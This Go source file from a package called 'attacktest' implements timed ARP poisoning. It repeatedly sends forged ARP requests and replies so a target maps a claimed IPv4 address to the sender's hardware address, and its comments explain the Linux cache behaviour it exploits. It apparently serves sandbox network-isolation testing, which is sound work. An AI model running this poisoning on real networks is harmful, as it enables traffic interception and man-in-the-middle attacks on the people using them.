package attacktest

import (
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"
)

// PoisonSpec asks for ARP poisoning: Target is told, again and again, that
// Claim is at our hardware address.
type PoisonSpec struct {
	Claim    netip.Addr    `json:"claim"`
	Target   netip.Addr    `json:"target"`
	Interval time.Duration `json:"interval"` // 100 ms if zero
	Duration time.Duration `json:"duration"` // it stops by itself after this
}

// PoisonReport says what a poisoning run did.
type PoisonReport struct {
	// TargetHW is the target's hardware address, or empty when it did not
	// answer ARP and the claims went to the broadcast address.
	TargetHW string        `json:"target_hw"`
	Frames   int64         `json:"frames"`
	Ran      time.Duration `json:"ran"`
	Error    string        `json:"error,omitempty"`
}

// poisoner sends the claims until stopped or its duration is over.
type poisoner struct {
	l       *link
	report  PoisonReport
	frames  atomic.Int64
	stop    chan struct{}
	done    chan struct{}
	stopped sync.Once
	start   time.Time
	end     time.Time // when the goroutine stopped sending
	err     error
}

// startPoison resolves the target and starts claiming. Each round sends an
// ARP request and an ARP reply from Claim: a request aimed at one of the
// target's own addresses makes Linux overwrite its entry for the sender at
// once (neigh_event_ns), and a unicast reply then marks it REACHABLE, so the
// target does not probe the real owner for a while.
func startPoison(spec PoisonSpec) (*poisoner, error) {
	if !spec.Claim.Is4() || !spec.Target.Is4() {
		return nil, fmt.Errorf("poison: claim and target must be IPv4")
	}
	if spec.Duration <= 0 {
		return nil, fmt.Errorf("poison: a duration is required")
	}
	interval := spec.Interval
	if interval <= 0 {
		interval = 100 * time.Millisecond
	}
	dst, err := resolve(spec.Target, time.Second)
	if err != nil {
		dst = broadcast
	}
	l, _, err := openLink(spec.Target, etherTypeARP)
	if err != nil {
		return nil, err
	}
	p := &poisoner{l: l, stop: make(chan struct{}), done: make(chan struct{}), start: time.Now()}
	if len(dst) > 0 && dst.String() != broadcast.String() {
		p.report.TargetHW = dst.String()
	}
	tha := dst
	if p.report.TargetHW == "" {
		tha = make(net.HardwareAddr, 6)
	}
	me := l.ifc.HardwareAddr
	frames := [][]byte{
		ethFrame(dst, me, etherTypeARP, arpPacket{Op: arpRequest, SenderHW: me, SenderIP: spec.Claim,
			TargetHW: make(net.HardwareAddr, 6), TargetIP: spec.Target}.marshal()),
		ethFrame(dst, me, etherTypeARP, arpPacket{Op: arpReply, SenderHW: me, SenderIP: spec.Claim,
			TargetHW: tha, TargetIP: spec.Target}.marshal()),
	}
	// The socket already belongs to the sandbox's netns, so this goroutine
	// may run on any thread.
	go func() {
		defer close(p.done)
		defer l.close()
		defer func() { p.end = time.Now() }()
		tick := time.NewTicker(interval)
		defer tick.Stop()
		end := time.After(spec.Duration)
		for {
			for _, f := range frames {
				if err := l.send(f); err != nil {
					p.err = err
					return
				}
				p.frames.Add(1)
			}
			select {
			case <-p.stop:
				return
			case <-end:
				return
			case <-tick.C:
			}
		}
	}()
	return p, nil
}

// Stop ends the run and reports it.
func (p *poisoner) Stop() any {
	p.stopped.Do(func() { close(p.stop) })
	<-p.done
	r := p.report
	r.Frames = p.frames.Load()
	r.Ran = p.end.Sub(p.start)
	if p.err != nil {
		r.Error = p.err.Error()
	}
	return r
}
